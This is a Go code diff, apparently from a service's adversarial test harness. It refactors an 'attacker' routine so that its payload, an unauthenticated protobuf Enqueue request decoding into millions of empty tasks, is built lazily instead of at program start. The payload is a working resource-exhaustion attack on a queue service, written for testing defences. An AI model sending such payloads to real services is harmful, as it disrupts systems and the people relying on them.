@@ -37,8 +37,8 @@ const (
 )
 
 // emptyTasksMessage is an encoded EnqueueRequest with millions of empty tasks. An empty task is the tag of the field tasks and a
-// length of 0.
-var emptyTasksMessage = bytes.Repeat([]byte{2<<3 | 2, 0}, emptyTasksBytes/2)
+// length of 0. Only attackers make it: it would cost each start of a program that links this package.
+var emptyTasksMessage = sync.OnceValue(func() []byte { return bytes.Repeat([]byte{2<<3 | 2, 0}, emptyTasksBytes/2) })
 
 // emptyTasks sends, without a token, a message that decodes into millions of empty tasks. The message is encoded only once, which
 // saves the attacker's CPU time.
@@ -46,7 +46,7 @@ func (a *attacker) emptyTasks(ctx context.Context) error {
 	ctx, cancel := context.WithTimeout(ctx, callTimeout)
 	defer cancel()
 	var answer []byte
-	return a.unauthenticated.Invoke(ctx, queuepb.QueueService_Enqueue_FullMethodName, emptyTasksMessage, &answer, grpc.ForceCodec(encoded{}))
+	return a.unauthenticated.Invoke(ctx, queuepb.QueueService_Enqueue_FullMethodName, emptyTasksMessage(), &answer, grpc.ForceCodec(encoded{}))
 }
 
 // encoded is a codec for messages that are already encoded.
